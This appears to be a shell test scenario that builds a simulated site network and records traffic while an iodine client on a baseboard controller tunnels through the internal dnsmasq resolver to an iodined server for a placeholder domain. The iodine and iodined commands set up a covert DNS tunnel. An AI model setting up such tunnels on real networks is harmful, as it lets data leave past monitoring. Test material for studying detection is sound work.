# A tunnel through the resolver inside: iodine on a controller asks nobody but the resolver that everybody asks.
# programs: dnsmasq iodine iodined ping dig
. "$here/outside.sh"

outside_network bmc-01 d0:94:66:78:00:21 78
machine dns-01 52:54:00:78:00:10 10.78.0.10/24 10.78.0.1
machine bmc-02 0c:c4:7a:78:00:22 10.78.0.22/24
start far-01 iodined -f -c -P staple -D 10.99.78.1/28 t.example
listening far-01 udp 53
start dns-01 dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-daemon --cache-size=0 --server=203.0.113.40 \
  --address=/time.site.example/10.78.0.11 --address=/log.site.example/10.78.0.12
listening dns-01 udp 53

record
say "both controllers ask dns-01 for names of the site"
for turn in 1 2 3; do
  for name in bmc-01 bmc-02; do
    on "$name" dig +tries=1 +time=2 @10.78.0.10 time.site.example >/dev/null || fail "dig ends with $?"
    on "$name" dig +tries=1 +time=2 @10.78.0.10 log.site.example >/dev/null || fail "dig ends with $?"
  done
  sleep 1
done
say "iodine begins on bmc-01, by TXT questions to dns-01"
start bmc-01 iodine -f -r -P staple -T TXT -L 1 10.78.0.10 t.example
for try in $(seq 300); do
  ! on bmc-01 ping -q -c 1 -W 1 10.99.78.1 >/dev/null 2>&1 || break
  sleep 0.2
done
on bmc-01 ping -q -c 3 10.99.78.1 >/dev/null || fail "the tunnel does not carry"
say "idle"
sleep 20
